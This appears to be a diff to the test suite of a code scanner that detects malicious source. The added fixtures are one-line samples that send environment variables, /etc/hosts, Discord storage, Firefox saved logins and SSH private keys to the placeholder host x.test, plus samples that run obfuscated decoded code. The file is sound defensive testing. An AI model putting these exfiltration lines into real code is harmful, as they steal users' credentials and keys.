@@ -29,6 +29,7 @@ describe('source that sends secrets away', () => {
     ['build.rs', 'use std::process::Command;\nfn main() {\n    Command::new("sh").arg("-c").arg("env | curl -s --data-binary @- https://x.test/r").spawn();\n}'],
     ['lib/a.py', "import socket\ndef q(d):\n    h = d.hex()\n    for i in range(0, len(h), 60):\n        socket.gethostbyname(h[i:i+60] + '.x.test')\nq(open('/etc/hosts','rb').read())"],
     ['src/a.ts', "fetch('https://x.test/h', { method: 'POST', body: readFileSync(homedir() + '/.config/discord/Local Storage/leveldb/000003.log') });"],
+    ['src/a.ts', "fetch('https://x.test/h', { method: 'POST', body: readFileSync(homedir() + '/.mozilla/firefox/a/logins.json') });"],
     ['src/a.ts', "const key = readFileSync(join(homedir(), '.ssh/id_rsa'), 'utf8');\nawait fetch('https://x.test/k', { method: 'POST', body: key });"],
   ])('%s: %s', async (path, content) => {
     expect(await harmOf(path, content)).toEqual([inWords('secrets sent')]);
@@ -69,6 +70,8 @@ describe('source that hides what it runs', () => {
     ['src/a.js', "eval(Buffer.from('YWxlcnQoMSk=', 'base64').toString())"],
     ['src/a.js', "new Function(Buffer.from(parts.join(''), 'hex').toString('utf8'))()"],
     ['src/a.js', "const d = createDecipher('aes256', e); let s = d.update(data, 'hex', 'utf8'); s += d.final('utf8'); const m = new module.constructor(); m._compile(s, '');"],
+    ['src/a.js', "new vm.Script(inflateSync(Buffer.from(code, 'base64')).toString()).runInThisContext()"],
+    ['a/compat.py', "import codecs\nexec(codecs.decode('cevag(1)', 'rot_13'))"],
     ['src/a.php', "<?php eval(gzinflate(base64_decode('y0jNyclXyFTIS8xNBQA=')));"],
     ['lib/a.rb', "eval(Base64.decode64('cHV0cyAx'))"],
   ])('%s: %s', async (path, content) => {
